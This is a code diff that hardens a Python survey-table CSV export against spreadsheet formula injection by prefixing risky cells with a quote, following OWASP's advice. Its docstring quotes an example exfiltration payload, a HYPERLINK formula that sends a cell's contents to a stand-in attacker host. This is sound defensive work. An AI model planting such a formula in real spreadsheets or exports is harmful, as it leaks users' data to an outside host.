@@ -23,6 +23,8 @@ from flows import surveys
 
 ERASED = "(erased)"
 HOW_KEY = re.compile(r"^how(\d+):")
+# A cell a spreadsheet would read as a formula (OWASP's CSV injection rule): it starts with one of these.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @dataclass(frozen=True)
@@ -34,12 +36,23 @@ class Table:
 
 
 def to_csv(table: Table) -> str:
-    """The table as CSV text (RFC 4180 line endings)."""
+    """The table as CSV text (RFC 4180 line endings), every cell safe to open in a spreadsheet."""
     out = io.StringIO()
     writer = csv.writer(out)
-    writer.writerow(table.header)
-    writer.writerows(table.rows)
+    writer.writerow([inert(cell) for cell in table.header])
+    writer.writerows([inert(cell) for cell in row] for row in table.rows)
     return out.getvalue()
+
+
+def inert(cell: object) -> str:
+    """``cell`` as text a spreadsheet shows as text, never runs as a formula.
+
+    A learner's survey answer like ``=HYPERLINK("http://evil.example/?d="&B2,"Click me")``, a typed name
+    or a masked number (``+1******0123``) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+    return gets a leading ``'`` (OWASP's advice), which spreadsheets read as "this is text".
+    """
+    text = "" if cell is None else str(cell)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
 
 
 def learners(session: Session, circle: Circle) -> Table:
